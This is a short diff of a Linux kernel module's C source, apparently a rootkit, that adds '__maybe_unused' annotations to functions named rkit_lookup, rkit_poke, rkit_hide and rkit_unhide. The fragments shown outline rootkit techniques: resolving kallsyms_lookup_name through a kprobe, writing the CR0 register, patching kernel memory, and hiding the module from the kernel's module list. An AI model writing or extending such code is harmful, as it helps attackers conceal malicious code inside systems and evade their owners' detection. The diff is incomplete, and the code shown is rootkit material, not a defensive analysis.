@@ -21,7 +21,7 @@
 #include <linux/rculist.h>
 #include <asm/special_insns.h>
 
-static unsigned long rkit_lookup(const char *name)
+static unsigned long __maybe_unused rkit_lookup(const char *name)
 {
 	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
 	unsigned long (*kln)(const char *);
@@ -38,7 +38,7 @@ static inline void rkit_cr0_write(unsigned long v)
 	asm volatile("mov %0, %%cr0" : "+r"(v) : : "memory");
 }
 
-static void rkit_poke(void *dst, const void *src, size_t len)
+static void __maybe_unused rkit_poke(void *dst, const void *src, size_t len)
 {
 	unsigned long flags, cr0;
 
@@ -66,7 +66,7 @@ static struct list_head *rkit_find_head(void)
 	return NULL;
 }
 
-static int rkit_hide(void)
+static int __maybe_unused rkit_hide(void)
 {
 	rkit_modules_head = rkit_find_head();
 	rkit_kset = THIS_MODULE->mkobj.kobj.kset;
@@ -79,7 +79,7 @@ static int rkit_hide(void)
 	return 0;
 }
 
-static void rkit_unhide(void)
+static void __maybe_unused rkit_unhide(void)
 {
 	if (!rkit_hidden)
 		return;
